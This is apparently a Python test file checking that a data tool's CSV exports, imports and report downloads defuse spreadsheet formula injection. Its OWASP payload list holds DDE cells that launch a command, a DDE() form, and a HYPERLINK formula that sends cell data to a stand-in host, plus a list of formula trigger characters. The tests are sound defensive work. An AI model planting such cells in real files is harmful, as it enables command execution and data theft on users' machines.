"""No CSV the tool writes holds a cell a spreadsheet would run (OWASP "CSV Injection"; issue 14).

Payloads from the OWASP page: ``=cmd|' /C calc'!A0``, ``=HYPERLINK(...)``, ``+``/``-``/``@`` leads,
tab and carriage return, ``DDE`` forms. A cell is safe when it does not start (after spaces) with a
trigger character; the tool's own escape is one leading ``'``.
"""
import base64
import csv
import io
import json
import re

import pandas as pd
import pytest

from kasvudata_utils import cli, fileio
from kasvudata_utils.apps.common import csv_download_html
from kasvudata_utils.errors import InputError
from kasvudata_utils.insights import exchange
from kasvudata_utils.insights.store import InsightStore
from kasvudata_utils.reports.common import save_table

OWASP = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def dangerous_cells(text: str) -> list[str]:
    """Every cell of the CSV text that a spreadsheet would treat as a formula (a plain number is data)."""
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row
            if c.lstrip(" ").startswith(TRIGGERS) and not _is_number(c)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("payload", OWASP)
def test_neutralise_cell_defuses_every_owasp_payload_and_round_trips(payload):
    cell = fileio.neutralise_cell(payload)
    assert cell == "'" + payload and not dangerous_cells(fileio.csv_text(["h"], [[payload]]))
    assert fileio.unneutralise_cell(cell) == payload


def test_carriage_return_cells_are_quoted_and_rows_stay_whole():
    text = fileio.csv_text(["a", "b"], [["x\ry", "z\nw"]])
    assert text == 'a,b\n"x\ry","z\nw"\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], ["x\ry", "z\nw"]]


def test_numbers_and_plain_text_are_untouched():
    assert fileio.csv_text(["a", "b", "c"], [[-1.5, "Oulu", None]]) == "a,b,c\n-1.5,Oulu,\n"
    df = pd.DataFrame({"area_code": ["KU009", "=1+1"], "value": [-2.0, 3.0]})
    assert fileio.frame_csv_text(df) == "area_code,value\nKU009,-2.0\n'=1+1,3.0\n"
    assert df.loc[1, "area_code"] == "=1+1"  # the caller's frame is not changed


def _store_with_payloads(tmp_path) -> InsightStore:
    store = InsightStore(tmp_path / "s.sqlite")
    for p in OWASP[:5]:
        store.add("KU009", "trend", p, author=p, workshop=p)
    return store


def test_insights_list_writes_no_formula(tmp_path, capsys):
    _store_with_payloads(tmp_path)
    assert cli.main(["insights", "--db", str(tmp_path / "s.sqlite"), "list"]) == 0
    out = capsys.readouterr().out
    assert out.count("\n") == 6 and dangerous_cells(out) == []
    assert "'=cmd|' /C calc'!A0" in out


def test_export_csv_guards_uuid_times_and_session_from_imported_files(tmp_path):
    store = InsightStore(tmp_path / "s.sqlite")
    header = ["uuid", "created_utc", "updated_utc", "kind", "area_code", "text", "session_id", "workshop"]
    uid = "123e4567-e89b-12d3-a456-426614174000"
    good = [uid, "2026-01-01T00:00:00Z", "2026-01-01T00:00:00Z", "trend", "KU009", "ok", "@SUM(1)", "-1+1"]
    forged = tmp_path / "forged.csv"
    for i, payload in [(0, "=HYPERLINK(\"http://e\")"), (1, "=1+1"), (2, "+2026-01-01")]:
        row = list(good)
        row[i] = payload
        forged.write_text(fileio.csv_text(header, [row]))
        with pytest.raises(InputError, match="forged.csv record 1"):  # uuid and times are checked, not stored
            exchange.import_file(store, forged)
    assert store.count(include_deleted=True) == 0
    forged.write_text(fileio.csv_text(header, [good]))
    exchange.import_file(store, forged)
    text = store.export("csv")
    assert dangerous_cells(text) == []
    rec = store.get(uid)
    assert rec["session_id"] == "@SUM(1)" and rec["workshop"] == "-1+1"  # stored verbatim, exported defused
    assert "'@SUM(1)" in text and "'-1+1" in text


def test_csv_export_import_round_trip_is_exact(tmp_path):
    a = _store_with_payloads(tmp_path)
    path = tmp_path / "e.csv"
    exchange.write_export(a, "csv", out=path)
    b = InsightStore(tmp_path / "b.sqlite")
    exchange.import_file(b, path)
    key = lambda r: r["uuid"]  # noqa: E731
    assert sorted(a.list(), key=key) == sorted(b.list(), key=key)


def test_report_tables_and_app_downloads_are_neutralised(tmp_path):
    df = pd.DataFrame({"industry_code": ["C", "=1+1"], "note": ["@x", ""], "value": [-1.0, 2.0]})
    p = save_table(df, str(tmp_path), "t")
    assert dangerous_cells(p.read_text()) == [] and "-1.0" in p.read_text()
    link = csv_download_html(df, "t.csv")
    payload = re.search(r"base64,([A-Za-z0-9+/=]+)", link).group(1)
    assert dangerous_cells(base64.b64decode(payload).decode("utf-8")) == []


def test_json_export_keeps_text_verbatim(tmp_path):
    store = _store_with_payloads(tmp_path)
    doc = json.loads(store.export("json"))
    assert {r["text"] for r in doc["records"]} == set(OWASP[:5])
